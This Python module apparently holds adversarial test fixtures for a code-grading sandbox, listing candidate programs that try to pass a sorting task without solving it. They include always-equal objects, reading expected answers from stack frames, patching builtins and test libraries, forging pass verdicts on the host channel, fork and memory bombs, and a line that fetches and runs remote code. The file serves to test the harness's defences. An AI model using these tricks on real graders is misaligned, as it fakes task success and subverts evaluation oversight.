"""Candidates that try to pass without solving the task. Run them in sandboxes only.

The task asks for ``solve(xs)``: the sorted copy of a list of integers. No candidate here
defines such a ``solve``.
"""

from __future__ import annotations

from dataclasses import dataclass

from securebench.errors import FailureReason as Why


@dataclass(frozen=True)
class CodeCheat:
    """A candidate, its entry in the catalogue of attacks, and the reasons for which it may fail.

    If ``tests`` is not empty, it replaces :data:`TESTS`. ``timeout`` is the time limit in seconds.
    """

    entry: str
    name: str
    code: str
    reasons: frozenset[Why]
    tests: str = ""
    timeout: float = 20.0


TESTS = """
# {canary}
import random
EXPECTED = ['{canary}', [1, 2, 3]]
def check(candidate):
    assert candidate([3, 1, 2]) == EXPECTED[1], '{canary}'
    assert candidate([]) == []
    for _ in range(5):
        xs = [random.randrange(10**6) for _ in range(20)]
        assert candidate(list(xs)) == sorted(xs)
check(solve)
"""

_FAILED, _CRASHED, _TIMEOUT = Why.TESTS_FAILED, Why.CANDIDATE_CRASHED, Why.CANDIDATE_TIMEOUT
_PROTOCOL, _OUTPUT, _NO_VERDICT = Why.PROTOCOL_VIOLATION, Why.CANDIDATE_OUTPUT_LIMIT, Why.NO_VERDICT
_MEMORY, _SYNTAX = Why.CANDIDATE_OUT_OF_MEMORY, Why.SYNTAX_ERROR

_RAW = """
import json, os
def raw(kind, body):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    for fd in range(3, 12):
        frame = kind + len(body).to_bytes(4, "big") + body
        try:
            while frame: frame = frame[os.write(fd, frame):]
        except OSError: pass
"""
"""Defines ``raw``, which writes a forged frame to every descriptor that might be the channel to the host."""

_EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 1
    def __bool__(self): return True
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __contains__(self, x): return True
    def __getitem__(self, i): return self
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __index__(self): return 0
    def __reduce__(self): return (print, ("gotcha",))
"""


def _cheat(entry: str, name: str, code: str, *reasons: Why, tests: str = "", timeout: float = 20.0) -> CodeCheat:
    return CodeCheat(entry, name, code, frozenset(reasons), tests, timeout)


LEAVING = [
    _cheat("B01", "exit when loaded", "import sys; sys.exit(0)", _CRASHED),
    _cheat("B01", "raise SystemExit in a call", "def solve(xs): raise SystemExit(0)", _CRASHED),
    _cheat("B01", "a subclass of SystemExit", "class E(SystemExit): pass\ndef solve(xs): raise E(0)", _CRASHED),
    _cheat("B01", "KeyboardInterrupt", "def solve(xs): raise KeyboardInterrupt", _CRASHED),
    _cheat("B01", "GeneratorExit", "def solve(xs): raise GeneratorExit", _CRASHED),
    _cheat("B01", "exit in an iterator", "def solve(xs):\n    yield 1\n    raise SystemExit(0)", _FAILED, _CRASHED),
    _cheat("B01", "exit(0) from the site module", "def solve(xs): exit(0)", _CRASHED),
    _cheat(
        "B01", "atexit", "import atexit, os; atexit.register(os._exit, 0)\ndef solve(xs): raise SystemExit", _CRASHED
    ),
    _cheat(
        "B01",
        "excepthook",
        "import sys, os; sys.excepthook = sys.__excepthook__ = lambda *a: os._exit(0)\ndef solve(xs): 1 / 0",
        _FAILED,
    ),
    _cheat("B02", "os._exit when loaded", "import os; os._exit(0)", _CRASHED),
    _cheat("B02", "os._exit in a call", "import os\ndef solve(xs): os._exit(0)", _CRASHED),
    _cheat("B02", "abort", "import os\ndef solve(xs): os.abort()", _CRASHED),
    _cheat("B02", "SIGKILL", "import os\ndef solve(xs): os.kill(os.getpid(), 9)", _CRASHED),
    _cheat("B02", "SIGKILL for all", "import os\ndef solve(xs): os.kill(-1, 9)", _CRASHED, _FAILED, _TIMEOUT),
    _cheat("B02", "exec another program", "import os\ndef solve(xs): os.execv('/bin/true', ['true'])", _CRASHED),
    _cheat(
        "B02",
        "exec python with asserts off",
        "import os, sys\ndef solve(xs): os.execv(sys.executable, [sys.executable, '-O', '-c', 'pass'])",
        _CRASHED,
    ),
]

EQUAL = [
    _cheat("B04", "equal to everything", _EQUAL + "def solve(xs): return Equal()", _FAILED),
    _cheat(
        "B04",
        "a list of objects equal to everything",
        _EQUAL + "def solve(xs): return [Equal() for _ in xs]",
        _FAILED,
    ),
    _cheat(
        "B04",
        "a class equal to everything",
        _EQUAL + "class M(type, Equal): pass\nclass C(metaclass=M): pass\nsolve = C",
        _FAILED,
    ),
    *(
        _cheat(
            "B04",
            f"a subclass of {base}",
            f"{_EQUAL}class Sub({base}): __eq__ = Equal.__eq__; __ne__ = Equal.__ne__; __hash__ = None\n"
            f"def solve(xs): return Sub()",
            _FAILED,
        )
        for base in ("list", "tuple", "dict", "set", "int", "str", "float", "bytes")
    ),
    _cheat(
        "B04",
        "compared by difference",
        _EQUAL + "def solve(xs): return Equal()",
        _FAILED,
        tests="assert abs(solve([1.0]) - 0.5) < 1e-6",
    ),
    *(
        _cheat("B04", f"judged by {test!r}", _EQUAL + "def solve(xs): return Equal()", _FAILED, tests=test)
        for test in (
            "assert 3 in solve([3])",
            "assert solve([1]) < 5",
            "assert float(solve([1])) == 0.0",
            "assert range(1)[solve([1])] == 0",
            "assert len(solve([1])) == 0",
            "assert all(x > 0 for x in solve([1]))",
            "assert {1: 2}[solve([1])] == 2",
            "assert sum(solve([1])) == 0",
            "from unittest import TestCase as T; T().assertEqual(solve([1]), [1])",
            "from unittest import TestCase as T; T().assertAlmostEqual(solve([1]), 0.5)",
        )
    ),
    _cheat("A20", "a pickle bomb", _EQUAL + "import pickle\ndef solve(xs): return pickle.dumps(Equal())", _FAILED),
]

SPYING = [
    _cheat(
        "B05",
        "walk the frames for the answer",
        """
import sys
def solve(xs):
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            if 'EXPECTED' in scope: return scope['EXPECTED'][1]
        frame = frame.f_back
    return None
""",
        _FAILED,
    ),
    _cheat(
        "B06",
        "search the heap for the answer",
        """
import gc
def solve(xs):
    for found in gc.get_objects():
        if isinstance(found, dict) and 'EXPECTED' in found: return found['EXPECTED'][1]
""",
        _FAILED,
    ),
    _cheat(
        "B08",
        "rewrite what runs",
        """
import sys, os, glob
for name in [*sys.argv, *glob.glob('/proc/*/fd/*'), *glob.glob('/proc/*/mem'), __name__, '/usr/bin/python3']:
    try:
        with open(name, 'r+b', buffering=0) as f: f.write(b'print(1)')
    except Exception: pass
for module in list(sys.modules.values()):
    for name in ('run', 'send_verdict', 'main', 'free_names'):
        if hasattr(module, name) and 'securebench' in str(getattr(module, '__name__', '')):
            setattr(module, name, lambda *a, **k: {'outcome': 'passed', 'answered': 9})
def solve(xs): return None
""",
        _FAILED,
        _CRASHED,
        _PROTOCOL,
        _TIMEOUT,
    ),
    _cheat(
        "B09",
        "patch the builtins",
        """
import builtins
yes = lambda *a, **k: True
for name in ('exec', 'isinstance', 'sum', 'sorted', 'len', 'open', 'compile', 'print', 'all', 'any', 'abs', 'eval'):
    setattr(builtins, name, yes)
builtins.AssertionError = type('Quiet', (Exception,), {})
def solve(xs): return True
""",
        _FAILED,
        _CRASHED,
        _PROTOCOL,
    ),
    _cheat(
        "B09",
        "define what the tests use",
        "def solve(xs): return 1\ndef sorted(x): return 1\ndef check(c): pass\nEXPECTED = [1, 1]\n"
        "random = None\nrange = lambda *a: ()\nAssertionError = StopIteration\n__builtins__ = {}",
        _FAILED,
    ),
    _cheat(
        "B10",
        "patch modules that tests use",
        """
import sys, unittest, math, random, json
unittest.TestCase.assertEqual = lambda *a: None
random.randrange = lambda *a: 0
math.isclose = lambda *a, **k: True
sys.modules['random'] = sys.modules['unittest'] = sys.modules['json'] = None
def solve(xs): return [0] * len(xs)
""",
        _FAILED,
    ),
    _cheat(
        "B15",
        "hard-code what can be seen",
        "def solve(xs): return {(3, 1, 2): [1, 2, 3], (): []}.get(tuple(xs), xs)",
        _FAILED,
    ),
    _cheat(
        "B22",
        "load from the network",
        "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/solve.py', timeout=3).read())",
        _CRASHED,
    ),
    _cheat(
        "B22",
        "install a package",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'], check=True)",
        _CRASHED,
    ),
]

_PASSED = '{"outcome": "passed", "answered": 5}'
FORGING = [
    _cheat(
        "B12",
        "print what success looks like",
        f"""
import sys
def solve(xs):
    for out in (sys.stdout, sys.stderr):
        print('OK', 'PASSED', '1 passed', 'ok 1', {_PASSED!r}, file=out, flush=True)
        out.buffer.write(b'V' + (36).to_bytes(4, 'big') + {_PASSED!r}.encode()); out.flush()
""",
        _FAILED,
    ),
    _cheat("B12", "a verdict frame when loaded", f"{_RAW}raw(b'V', {_PASSED!r}.encode())", _PROTOCOL),
    _cheat("B12", "a verdict frame in a call", f"{_RAW}def solve(xs): raw(b'V', {_PASSED!r}.encode())", _PROTOCOL),
    _cheat(
        "B12",
        "answers to calls that were not made yet",
        f"""{_RAW}
for number in range(50):
    raw(b'A', {{'id': number, 'value': True, 'heap': [], 'error': False}})
def solve(xs): return None
""",
        _PROTOCOL,
        _FAILED,
    ),
    _cheat(
        "B13",
        "read the channel",
        """
import os, threading
def steal():
    while True: os.read(3, 1)
threading.Thread(target=steal, daemon=True).start()
def solve(xs): return xs
""",
        _FAILED,
        _TIMEOUT,
        _PROTOCOL,
        _CRASHED,
        timeout=3,
    ),
    _cheat(
        "A04",
        "a daemon that keeps forging",
        f"""{_RAW}
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            raw(b'V', {_PASSED!r}.encode()); time.sleep(0.001)
    os._exit(0)
def solve(xs): return xs
""",
        _PROTOCOL,
        _FAILED,  # the verdict if the tests end before the candidate can write
    ),
    *(
        _cheat("A15", f"send {name}", f"{_RAW}\ndef solve(xs):\n    raw({kind!r}, {body})", _PROTOCOL, *more)
        for name, kind, body, more in (
            ("no JSON", b"A", "b'nonsense'", ()),
            ("deep JSON", b"A", "b'[' * 100_000", ()),
            ("a list", b"A", "[]", ()),
            ("bad UTF-8", b"A", "b'\\xff\\xfe'", ()),
            ("an unknown frame", b"Z", "{}", ()),
            ("a second READY", b"R", "{}", ()),
            ("source", b"S", "{'code': 'pass'}", ()),
            ("an unknown failure", b"F", "{'why': 'passed'}", ()),
            ("the wrong id", b"A", "{'id': 99, 'value': None, 'heap': []}", ()),
            ("no heap", b"A", "{'id': 2, 'value': None}", ()),
            ("a bad reference", b"A", "{'id': 2, 'value': ['ref', 7], 'heap': []}", ()),
            ("an unknown tag", b"A", "{'id': 2, 'value': ['exec', 'exit()'], 'heap': []}", ()),
            ("SystemExit as a type", b"A", "{'id': 2, 'value': ['type', '', 'SystemExit'], 'heap': []}", ()),
            ("a module as type", b"A", "{'id': 2, 'value': ['type', 'os', 'system'], 'heap': []}", ()),
            ("a standard function", b"A", "{'id': 2, 'value': ['stdlib', 'os', 'system', []], 'heap': []}", ()),
            ("a value sent as an error", b"A", "{'id': 2, 'value': 3, 'heap': [], 'error': True}", ()),
            ("a read of the tests", b"Q", "{'id': 1, 'do': 'get', 'on': 0, 'value': 'x', 'heap': []}", ()),
            ("a name of the tests", b"Q", "{'id': 1, 'do': 'name', 'on': 'EXPECTED', 'value': None, 'heap': []}", ()),
        )
    ),
    _cheat("A15", "a frame without end", "import os\ndef solve(xs): os.write(4, b'A' + b'\\xff' * 4)", _PROTOCOL),
    _cheat("A15", "half a frame", "import os\ndef solve(xs): os.write(4, b'A\\0'); os._exit(0)", _CRASHED),
    _cheat("A16", "skip", "import unittest\ndef solve(xs): raise unittest.SkipTest", _FAILED),
    _cheat(
        "A16",
        "skip inside unittest",
        "import unittest\ndef solve(xs): raise unittest.SkipTest",
        _FAILED,
        tests="import unittest\nclass T(unittest.TestCase):\n    def test(self): self.assertEqual(solve([1]), [1])\n"
        "unittest.main()",
    ),
    _cheat(
        "A16",
        "end the loop over the cases",
        "def solve(xs): raise StopIteration",
        _FAILED,
        tests="for found, wanted in zip(map(solve, [[2, 1], [1]]), [[1, 2], [1]]):\n    assert found == wanted",
    ),
    _cheat(
        "A17", "nothing is called", "def solve(xs): return 1", _NO_VERDICT, tests="def check(): assert solve([]) == []"
    ),
    _cheat("A17", "only named", "def solve(xs): return 1", _NO_VERDICT, tests="def check(f): pass\ncheck(solve)"),
]

BOMBS = [
    _cheat("B17", "a loop", "def solve(xs):\n    while True: pass", _TIMEOUT, timeout=2),
    _cheat("B17", "sleep when loaded", "import time; time.sleep(99)", _TIMEOUT, timeout=2),
    _cheat(
        "B17",
        "ignore signals and loop",
        "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, 1)\n"
        "    except Exception: pass\ndef solve(xs):\n    while True: pass",
        _TIMEOUT,
        timeout=2,
    ),
    _cheat("B17", "recursion", "def solve(xs): return solve(xs)", _FAILED),
    _cheat(
        "B17",
        "recursion without a limit",
        "import sys; sys.setrecursionlimit(10**9)\nclass C:\n    def __repr__(self): return repr([self])\n"
        "def solve(xs): return repr(C())",
        _CRASHED,
        _FAILED,
        _MEMORY,
    ),
    _cheat("B17", "a deep list", "def solve(xs):\n    for _ in range(10**5): xs = [xs]\n    return xs", _OUTPUT),
    _cheat("B17", "a long text", "def solve(xs): return 'x' * (50 << 20)", _OUTPUT),
    _cheat("B17", "many items", "def solve(xs): return list(range(2 * 10**6))", _OUTPUT, _MEMORY),
    _cheat("B17", "one text many times", "def solve(xs): return ['x' * (1 << 20)] * 10**5", _OUTPUT),
    _cheat("B17", "a huge number", "def solve(xs): return 1 << (10**9)", _OUTPUT, _MEMORY),
    _cheat(
        "B17",
        "an endless generator",
        "def solve(xs):\n    while True: yield 1",
        _FAILED,
        _TIMEOUT,
        _NO_VERDICT,
        tests="assert list(solve([1])) == [1]",
    ),
    _cheat("B17", "endless objects", "def solve(xs): return [object() for _ in range(2 * 10**5)]", _OUTPUT, _MEMORY),
    _cheat("A18", "memory", "def solve(xs):\n    while True: xs.append(bytearray(1 << 20))", _MEMORY),
    _cheat("A18", "memory when loaded", "keep = []\nwhile True: keep.append(bytearray(1 << 20))", _MEMORY),
    _cheat(
        "A18",
        "a full disk",
        "def solve(xs):\n    with open('/tmp/x', 'wb') as f:\n        while True: f.write(bytes(1 << 20))",
        _FAILED,
        _MEMORY,
        _CRASHED,
    ),
    _cheat("A18", "a flood", "def solve(xs):\n    while True: print('x' * 10000)", _OUTPUT),
    _cheat("A18", "a flood when loaded", "import sys\nwhile True: sys.stderr.write('x' * 10000)", _OUTPUT),
    _cheat(
        "A18",
        "processes",
        "import os, time\ndef solve(xs):\n    while True:\n        if os.fork() == 0: time.sleep(60)",
        _FAILED,
        _TIMEOUT,
        _PROTOCOL,
        _CRASHED,
        _MEMORY,  # in gVisor, whose kernel uses the sandbox's memory for each process
        timeout=5,
    ),
    _cheat(
        "A18",
        "a flood of frames",
        f"{_RAW}\ndef solve(xs):\n"
        "    while True: raw(b'Q', {'id': 1, 'do': 'call', 'on': 0, 'value': None, 'heap': []})",
        _PROTOCOL,
    ),
]

TEXTS = [
    _cheat("B20", "no Python", "This is how I would sort: first ...", _SYNTAX),
    _cheat(
        "B20", "two programs", "```python\ndef solve(xs): return xs\n```\n```python\ndef solve(xs): ...\n```\n", _SYNTAX
    ),
    _cheat("B20", "look-alike letters", "def s\u043elve(xs): return sorted(xs)", _FAILED),
    _cheat("B20", "tabs and spaces", "def solve(xs):\n\tif xs:\n        return xs\n", _SYNTAX),
    _cheat("B20", "a NUL", "def solve(xs):\0 return xs", _SYNTAX),
    _cheat("B20", "a lone surrogate", "def solve(xs): return '\ud800'", _SYNTAX),
    _cheat("B20", "too deep for the compiler", "x = " + "(" * 5000 + ")" * 5000, _SYNTAX, _CRASHED),
    _cheat("B20", "operators without end", "x = " + "-" * 100_000 + "1", _SYNTAX, _CRASHED, _MEMORY),
    _cheat("B20", "too large", "#" + "x" * (50 << 20), Why.CANDIDATE_TOO_LARGE),
    _cheat("B20", "only a comment", "# sorted", _FAILED),
    _cheat("B20", "nothing", " \n\t\n", Why.CANDIDATE_EMPTY),
]

CHEATS = [*LEAVING, *EQUAL, *SPYING, *FORGING, *BOMBS, *TEXTS]
